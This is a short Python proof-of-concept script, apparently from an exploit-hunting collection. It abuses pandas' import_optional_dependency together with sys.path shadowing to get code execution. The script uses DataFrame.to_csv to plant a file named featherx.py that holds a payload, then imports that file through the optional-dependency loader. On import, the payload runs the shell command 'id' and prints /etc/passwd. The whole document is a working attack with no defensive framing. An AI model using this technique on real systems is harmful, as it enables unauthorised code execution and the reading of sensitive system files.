# source: pandas import_optional_dependency; sys.path[0] shadowing
# family: importer re-exported + planted .py via to_csv
# goal: RCE: id + /etc/passwd, returns planted module
import pandas as pd
from pandas.io import feather_format
payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read());__version__='9'"
pd.DataFrame({"c": [payload]}).to_csv("featherx.py", index=False, header=False)
mod = feather_format.import_optional_dependency("featherx")
print(mod)
